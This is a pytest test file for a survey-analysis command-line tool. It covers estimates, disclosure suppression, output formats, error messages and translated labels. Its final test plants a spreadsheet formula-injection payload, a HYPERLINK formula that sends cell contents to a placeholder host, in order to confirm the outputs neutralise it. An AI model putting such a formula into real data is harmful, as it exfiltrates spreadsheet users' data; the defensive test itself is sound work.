"""``amniyat analyze`` end to end on generated CSV, XLSX and Parquet files."""

from __future__ import annotations

import csv
import io
import json
import math
from pathlib import Path
from typing import Any

import numpy as np
import polars as pl
import pytest
from openpyxl import Workbook, load_workbook

from amniyat.analysis.cli import analyze_cli
from amniyat.analysis.management.commands.analyze import Command

from ..stats.reference import samplics_estimate
from .survey import INDICATORS_FILE, SMALL_DISTRICT, make_demo_survey

DESIGN = ["--weight", "weight", "--strata", "stratum", "--cluster", "cluster"]
ESTIMATE_KEYS = [
    "indicator", "by", "domain", "n", "weighted_n", "estimate", "se", "ci_low", "ci_high",
    "deff", "suppressed", "reason",
]  # fmt: skip
NUMBERS = ("estimate", "se", "ci_low", "ci_high", "deff")


@pytest.fixture(scope="module")
def survey() -> pl.DataFrame:
    return make_demo_survey()


@pytest.fixture(scope="module")
def files(tmp_path_factory: pytest.TempPathFactory, survey: pl.DataFrame) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("data")
    paths = {kind: folder / f"survey.{kind}" for kind in ("csv", "xlsx", "parquet")}
    survey.write_csv(paths["csv"])
    survey.write_parquet(paths["parquet"])
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(survey.columns)
    for row in survey.iter_rows():
        sheet.append(list(row))
    workbook.save(paths["xlsx"])
    return paths


def run(*argv: str | Path) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    status = analyze_cli([str(a) for a in argv], stdout=out, stderr=err)
    return status, out.getvalue(), err.getvalue()


def analyze_json(data: Path, *extra: str) -> dict[str, Any]:
    status, out, err = run(
        data, "--indicators", INDICATORS_FILE, *DESIGN, "--format", "json", *extra
    )
    assert status == 0, err
    assert err == ""
    result: dict[str, Any] = json.loads(out)
    return result


BY = ["--by", "sex", "--by", "district", "--by", "sex,district"]


@pytest.fixture(scope="module")
def result(files: dict[str, Path]) -> dict[str, Any]:
    return analyze_json(files["csv"], *BY, "--compare", "sex=female,male")


@pytest.fixture(scope="module")
def unprotected(files: dict[str, Path]) -> dict[str, Any]:
    return analyze_json(files["csv"], *BY, "--compare", "sex=female,male", "--min-cell", "1")


@pytest.fixture(scope="module")
def written(files: dict[str, Path], tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """The CSV and XLSX outputs of the same analysis as `result`."""
    folder = tmp_path_factory.mktemp("out")
    written = {"csv": folder / "out.csv", "xlsx": folder / "out.xlsx"}
    for target in written.values():
        status, _, err = run(
            files["csv"], "--indicators", INDICATORS_FILE, *DESIGN, *BY,
            "--compare", "sex=female,male", "--output", target,
        )  # fmt: skip
        assert status == 0, err
    return written


def test_json_structure(result: dict[str, Any]) -> None:
    assert list(result) == ["design", "estimates", "comparisons"]
    assert result["design"] == {
        "weight": "weight",
        "strata": "stratum",
        "cluster": "cluster",
        "fpc": None,
        "lonely_psu": "fail",
        "confidence": 0.95,
        "min_cell": 5,
        "rows": 515,
        "degrees_of_freedom": result["design"]["degrees_of_freedom"],
        "disaggregations": [[], ["sex"], ["district"], ["sex", "district"]],
    }
    assert result["design"]["degrees_of_freedom"] > 10
    for row in result["estimates"]:
        assert list(row) == ESTIMATE_KEYS
        assert set(row["domain"]) == set(row["by"])
        assert all(isinstance(value, str) for value in row["domain"].values())
    overall = [row for row in result["estimates"] if row["by"] == []]
    assert len(overall) == 34  # 22 indicators, one expanded into 12 choices
    safe_day = next(row for row in overall if row["indicator"] == "safe_day")
    assert safe_day["n"] == 515 and safe_day["suppressed"] is False
    assert safe_day["ci_low"] < safe_day["estimate"] < safe_day["ci_high"]
    women = [row for row in result["estimates"] if row["domain"] == {"sex": "female"}]
    assert {row["indicator"] for row in women} == {row["indicator"] for row in overall}


def test_empty_domain_is_reported_not_an_error(result: dict[str, Any]) -> None:
    (men,) = [
        row
        for row in result["estimates"]
        if row["indicator"] == "safe_night_women" and row["domain"] == {"sex": "male"}
    ]
    assert men["n"] == 0 and men["estimate"] is None
    assert men["suppressed"] is True and men["reason"] == "empty_domain"


def test_small_cells_are_suppressed(result: dict[str, Any]) -> None:
    small = [row for row in result["estimates"] if row["domain"].get("district") == SMALL_DISTRICT]
    assert small
    for row in small:
        assert row["n"] < 5
        assert row["suppressed"] is True
        assert row["reason"] in ("min_cell", "empty_domain")
        assert all(row[key] is None for key in NUMBERS)
    for row in result["estimates"]:
        if row["n"] < 5:
            assert row["suppressed"] and all(row[key] is None for key in NUMBERS)


def test_a_lone_suppressed_cell_gets_a_complement(result: dict[str, Any]) -> None:
    """With the overall estimate and weighted sizes published, one withheld district could be
    worked out from the others; so another district is withheld too."""
    by_district = [
        row
        for row in result["estimates"]
        if row["indicator"] == "safe_day" and row["by"] == ["district"]
    ]
    withheld = [row for row in by_district if row["suppressed"]]
    assert [row["reason"] for row in withheld] == ["complementary", "min_cell"]
    complement = next(row for row in withheld if row["reason"] == "complementary")
    assert complement["n"] == min(row["n"] for row in by_district if row["n"] >= 5)


def _withheld_numbers(protected: dict[str, Any], unprotected: dict[str, Any]) -> list[float]:
    numbers = []
    for hidden, full in zip(protected["estimates"], unprotected["estimates"], strict=True):
        assert (hidden["indicator"], hidden["domain"]) == (full["indicator"], full["domain"])
        if hidden["suppressed"]:
            numbers += [full[key] for key in NUMBERS if full[key] is not None]
    for hidden, full in zip(protected["comparisons"], unprotected["comparisons"], strict=True):
        if hidden["suppressed"]:
            keys = ("estimate_a", "estimate_b", "difference", "se", "ci_low", "ci_high", "t")
            numbers += [full[key] for key in keys if full[key] is not None]
    # Values shared with a published cell (0, 1, repeated proportions) prove nothing.
    published = {
        round(row[key], 12)
        for row in protected["estimates"]
        for key in NUMBERS
        if row[key] is not None
    }
    # Short values (3.0, 0.5) also occur inside other numbers; long ones identify a cell.
    return [n for n in numbers if round(n, 12) not in published and len(repr(n)) >= 10]


def test_no_suppressed_value_in_json_csv_or_xlsx(
    result: dict[str, Any], unprotected: dict[str, Any], written: dict[str, Path]
) -> None:
    secrets = _withheld_numbers(result, unprotected)
    assert len(secrets) > 50

    json_text = json.dumps(result)
    comparisons_csv = written["csv"].with_name("out-comparisons.csv")
    csv_text = written["csv"].read_text() + comparisons_csv.read_text()
    xlsx_file = written["xlsx"]
    workbook = load_workbook(xlsx_file)
    cells = [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows(values_only=True)
        for cell in row
        if isinstance(cell, float)
    ]
    for secret in secrets:
        assert repr(secret) not in json_text
        assert repr(secret) not in csv_text
        found = [cell for cell in cells if math.isclose(cell, secret, rel_tol=0, abs_tol=1e-12)]
        assert not found, secret


def test_csv_rows_match_json(files: dict[str, Path], result: dict[str, Any]) -> None:
    status, out, err = run(files["csv"], "--indicators", INDICATORS_FILE, *DESIGN, *BY,
                           "--format", "csv")  # fmt: skip
    assert status == 0, err
    rows = list(csv.DictReader(io.StringIO(out)))
    assert len(rows) == len(result["estimates"])
    for row, record in zip(rows, result["estimates"], strict=True):
        assert row["indicator"] == record["indicator"]
        assert row["n"] == str(record["n"])
        if record["suppressed"]:
            assert row["suppressed"] == "true"
            assert all(row[key] == "" for key in NUMBERS)
        else:
            assert float(row["estimate"]) == pytest.approx(record["estimate"], rel=1e-12)
        assert row["sex"] == (record["domain"].get("sex") or "")


def test_xlsx_is_formatted(written: dict[str, Path]) -> None:
    workbook = load_workbook(written["xlsx"])
    assert workbook.sheetnames == ["Estimates", "Comparisons", "Notes"]
    sheet = workbook["Estimates"]
    assert sheet["A1"].value == "Indicator" and sheet["A1"].font.bold
    assert sheet.freeze_panes == "A2"
    first = sheet[2]
    assert first[0].value == "safe_day" and first[7].number_format == "0.0%"
    suppressed = [row for row in sheet.iter_rows(min_row=2) if row[7].value == "suppressed"]
    assert suppressed
    for row in suppressed:
        assert all(cell.value is None for cell in row[8:12])
        assert row[7].fill.fgColor.rgb.endswith("D9D9D9")
    notes = {row[0]: row[1] for row in workbook["Notes"].iter_rows(values_only=True) if row}
    assert notes["Weight"] == "weight" and notes["Clusters (PSUs)"] == "cluster"
    assert notes["Minimum cell size"] == "5"


def test_table_is_readable(files: dict[str, Path]) -> None:
    status, out, err = run(files["csv"], "--indicators", INDICATORS_FILE, *DESIGN, "--by", "sex")
    assert status == 0, err
    lines = out.splitlines()
    assert lines[0] == "safe_day: Feel safe or very safe in their area during the day (proportion)"
    assert lines[1].split() == ["domain", "n", "estimate", "95%", "CI", "SE", "deff", "note"]
    assert lines[2].split()[:2] == ["all", "515"]
    assert "Minimum cell size" in out


@pytest.mark.parametrize("kind", ["xlsx", "parquet"])
def test_every_file_type_gives_the_same_estimates(
    files: dict[str, Path], kind: str, result: dict[str, Any]
) -> None:
    other = analyze_json(files[kind], *BY)
    assert len(other["estimates"]) == len(result["estimates"])
    for mine, theirs in zip(other["estimates"], result["estimates"], strict=True):
        assert mine["domain"] == theirs["domain"] and mine["n"] == theirs["n"]
        for key in NUMBERS:
            if theirs[key] is None:
                assert mine[key] is None
            else:
                assert mine[key] == pytest.approx(theirs[key], rel=1e-12, abs=1e-15)


def test_comparisons(result: dict[str, Any]) -> None:
    comparisons = result["comparisons"]
    withins = {json.dumps(row["within"], sort_keys=True) for row in comparisons}
    # Overall and within each district (sex,district less sex is district: once).
    assert len(withins) == 1 + 6
    overall = next(
        row for row in comparisons if row["indicator"] == "trust_police" and row["within"] == {}
    )
    assert overall["compare"] == "sex" and (overall["a"], overall["b"]) == ("female", "male")
    assert overall["difference"] == pytest.approx(overall["estimate_a"] - overall["estimate_b"])
    assert 0 < overall["p_value"] < 1 and overall["se"] > 0
    estimates = {
        (row["indicator"], json.dumps(row["domain"], sort_keys=True)): row
        for row in result["estimates"]
    }
    # Polars adds partial sums in parallel: equal to the last few bits only.
    assert overall["estimate_a"] == pytest.approx(
        estimates[("trust_police", '{"sex": "female"}')]["estimate"], rel=1e-12
    )
    for row in comparisons:
        if row["within"].get("district") == SMALL_DISTRICT:
            assert row["suppressed"] and row["difference"] is None and row["estimate_a"] is None


def test_one_estimate_matches_samplics(files: dict[str, Path], survey: pl.DataFrame) -> None:
    output = analyze_json(files["csv"], "--by", "district", "--min-cell", "1")
    mine = {
        row["domain"].get("district"): row
        for row in output["estimates"]
        if row["indicator"] == "safe_night"
    }
    safe = survey["safe_night"].to_list()
    y = np.array(
        [np.nan if s is None else float(s in ("safe", "very_safe")) for s in safe], dtype=float
    )
    arrays = {name: survey[name].to_numpy() for name in ("weight", "stratum", "cluster")}
    for domain in (None, "district"):
        reference = samplics_estimate(
            "proportion",
            y,
            arrays["weight"].astype(float),
            arrays["stratum"],
            arrays["cluster"],
            domain=survey["district"].to_numpy() if domain else None,
        )
        for key, expected in reference.items():
            row = mine[key]
            assert row["estimate"] == pytest.approx(expected.estimate, rel=1e-8, abs=1e-12)
            assert row["se"] == pytest.approx(expected.se, rel=1e-8, abs=1e-12)
            assert row["ci_low"] == pytest.approx(expected.ci_low, rel=1e-8, abs=1e-12)
            assert row["ci_high"] == pytest.approx(expected.ci_high, rel=1e-8, abs=1e-12)


def _with_column(survey: pl.DataFrame, tmp_path: Path, column: pl.Expr) -> Path:
    path = tmp_path / "changed.csv"
    survey.with_columns(column).write_csv(path)
    return path


def _when(condition: pl.Expr, value: object, column: str) -> pl.Expr:
    otherwise = pl.col(column).cast(pl.String) if isinstance(value, str) else pl.col(column)
    return pl.when(condition).then(pl.lit(value)).otherwise(otherwise).alias(column)


AGED_30 = pl.col("age") == 30
SMALL = pl.col("district") == SMALL_DISTRICT


@pytest.mark.parametrize(
    ("change", "argv", "message"),
    [
        (
            None,
            ["--weight", "wieght"],
            "the weight column 'wieght' is not in the data; did you mean 'weight'?",
        ),
        (None, ["--by", "gender"], "the by column 'gender' is not in the data"),
        (
            None,
            ["--strata", "nothing_like_it"],
            "the strata column 'nothing_like_it' is not in the data; its columns are: district, ",
        ),
        (
            None,
            ["--compare", "sex=female,mal"],
            "compare: the value 'mal' never occurs in column 'sex'",
        ),
        (None, ["--compare", "sex"], "--compare sex: write COLUMN=A,B"),
        (None, ["--min-cell", "0"], "the minimum cell size must be a whole number of 1 or more"),
        (None, ["--confidence", "95"], "the confidence level must be between 0 and 1"),
        (None, ["--format", "xlsx"], "--format xlsx needs --output FILE.xlsx"),
        (None, ["--lonely-psu", "ignore"], "argument --lonely-psu: invalid choice: 'ignore'"),
        (_when(AGED_30, -1.0, "weight"), [], "the weight column 'weight' has"),
        (
            _when(AGED_30, "heavy", "weight"),
            [],
            "the weight column 'weight' holds text (for example 'heavy'); weights must be numbers",
        ),
        (_when(SMALL, "sughd_small-s1", "cluster"), [], "1 stratum(s) have a single PSU"),
    ],
)
def test_bad_input_exits_2_with_one_line(
    survey: pl.DataFrame,
    files: dict[str, Path],
    tmp_path: Path,
    change: pl.Expr | None,
    argv: list[str],
    message: str,
) -> None:
    data = files["csv"] if change is None else _with_column(survey, tmp_path, change)
    status, out, err = run(data, "--indicators", INDICATORS_FILE, *DESIGN, *argv)
    assert status == 2
    assert out == ""
    assert err.startswith("amniyat analyze: error: ")
    assert message in err
    assert err.count("\n") == 1 and "Traceback" not in err


def test_lonely_psu_message_points_at_the_option(survey: pl.DataFrame, tmp_path: Path) -> None:
    data = _with_column(survey, tmp_path, _when(SMALL, "one", "cluster"))
    status, _, err = run(data, "--indicators", INDICATORS_FILE, *DESIGN)
    assert status == 2 and "Use --lonely-psu adjust, remove or certainty" in err
    status, _, err = run(data, "--indicators", INDICATORS_FILE, *DESIGN, "--lonely-psu", "adjust")
    assert status == 0, err


@pytest.mark.parametrize(
    ("spec", "message"),
    [
        (
            "indicators: [{id: safe, type: proportion, numerator: \"${safe_day} = = 'x'\"}]",
            "indicator safe, numerator: expected a value (${field}, a number, 'text', a function "
            "or a parenthesis) at column 15, found '='",
        ),
        (
            "indicators: [{id: safe, type: proportion, numerator: \"${safe_dya} = 'x'\"}]",
            "indicator safe reads ${safe_dya}, which is not in the data or the form; "
            "did you mean ${safe_day}?",
        ),
        (
            "indicators: {",
            "the indicator file is not valid YAML (line 1): expected the node content, but "
            "found '<stream end>'",
        ),
    ],
)
def test_bad_indicator_file_exits_2(
    files: dict[str, Path], tmp_path: Path, spec: str, message: str
) -> None:
    path = tmp_path / "spec.yaml"
    path.write_text(spec)
    status, _, err = run(files["csv"], "--indicators", path)
    assert status == 2
    assert err == f"amniyat analyze: error: {message}\n"


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["missing.csv"], "missing.csv: no such file"),
        (["data.txt"], "data.txt: the data file must be .csv, .xlsx or .parquet"),
        ([], "give either a DATA_FILE or --assessment ID"),
    ],
)
def test_data_source_errors(argv: list[str], message: str) -> None:
    status, _, err = run(*argv, "--indicators", INDICATORS_FILE)
    assert status == 2 and message in err


@pytest.mark.django_db
def test_an_unknown_assessment_is_a_clear_error() -> None:
    status, _, err = run("--assessment", "987654", "--indicators", INDICATORS_FILE)
    assert status == 2 and "there is no assessment 987654" in err


def test_unreadable_csv(tmp_path: Path) -> None:
    path = tmp_path / "broken.csv"
    path.write_bytes(b"a,b\n1,2,3,4\n")
    status, _, err = run(path, "--indicators", INDICATORS_FILE)
    assert status == 2 and "broken.csv cannot be read" in err


def test_management_command_runs_the_cli(
    files: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as done:
        Command().run_from_argv(
            ["amniyat", "analyze", str(files["csv"]), "--indicators", str(INDICATORS_FILE),
             "--format", "json"]
        )  # fmt: skip
    assert done.value.code == 0
    assert json.loads(capsys.readouterr().out)["design"]["rows"] == 515


def test_help(capsys: pytest.CaptureFixture[str]) -> None:
    status, out, _ = run("--help")
    assert status == 0 and "--lonely-psu" in out and "--compare COL=A,B" in out


def test_language_chooses_the_labels_and_the_words_of_the_table(files: dict[str, Path]) -> None:
    status, out, err = run(
        files["csv"], "--indicators", INDICATORS_FILE, *DESIGN, "--by", "sex", "--language", "tg"
    )
    assert status == 0, err
    lines = out.splitlines()
    assert lines[0] == (
        "safe_day: Рӯзона дар маҳалли худ худро бехатар ё хеле бехатар ҳис мекунанд (ҳисса)"
    )
    assert lines[1].split()[0] == "зергурӯҳ"
    assert "concern.theft: Ҳамчун мушкили асосии амниятӣ номбар мекунанд: Дуздӣ (ҳисса)" in lines


def test_language_chooses_the_labels_of_the_csv_and_the_workbook(
    files: dict[str, Path], tmp_path: Path
) -> None:
    status, out, err = run(
        files["csv"], "--indicators", INDICATORS_FILE, "--format", "csv", "--language", "uz"
    )
    assert status == 0, err
    rows = {row["indicator"]: row for row in csv.DictReader(io.StringIO(out))}
    assert rows["trust_police_score"]["label"] == "Militsiyaga ishonch, oʻrtacha ball (1–5)"
    target = tmp_path / "ru.xlsx"
    status, _, err = run(
        files["csv"], "--indicators", INDICATORS_FILE, "--output", target, "--language", "ru"
    )
    assert status == 0, err
    workbook = load_workbook(target)
    labels = {row[0]: row[1] for row in workbook.worksheets[0].iter_rows(values_only=True)}
    assert labels["concern.gbv"] == "Называют главной проблемой безопасности: Гендерное насилие"


def test_labels_are_in_english_by_default_and_other_languages_are_refused(
    files: dict[str, Path],
) -> None:
    status, out, _ = run(files["csv"], "--indicators", INDICATORS_FILE, "--format", "csv")
    assert status == 0
    rows = {row["indicator"]: row for row in csv.DictReader(io.StringIO(out))}
    assert rows["concern.gbv"]["label"] == "Names as a main security concern: Gender-based violence"
    status, _, err = run(files["csv"], "--indicators", INDICATORS_FILE, "--language", "fr")
    assert status == 2 and "--language" in err and "'fr'" in err


def test_answers_that_look_like_formulas_stay_text_in_the_csv_and_the_workbook(
    survey: pl.DataFrame, tmp_path: Path
) -> None:
    """A district answered ``=HYPERLINK(…)`` is a domain label in every output: the CSV
    quotes it and the workbook stores it as text, never a formula."""
    evil = '=HYPERLINK("http://x.example/?"&A1,"open")'
    data = tmp_path / "evil.csv"
    survey.with_columns(
        pl.when(pl.col("district") == "district_1")
        .then(pl.lit(evil))
        .otherwise(pl.col("district"))
        .alias("district")
    ).write_csv(data)
    status, out, err = run(
        data, "--indicators", INDICATORS_FILE, "--by", "district", "--format", "csv"
    )
    assert status == 0, err
    cells = [cell for row in csv.reader(io.StringIO(out)) for cell in row]
    assert "'" + evil in cells and evil not in cells
    target = tmp_path / "evil.xlsx"
    status, _, err = run(
        data, "--indicators", INDICATORS_FILE, "--by", "district", "--output", target
    )
    assert status == 0, err
    workbook = load_workbook(target)
    found = [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and "HYPERLINK" in cell.value
    ]
    assert found and all(c.data_type == "s" and not c.value.startswith("=") for c in found)
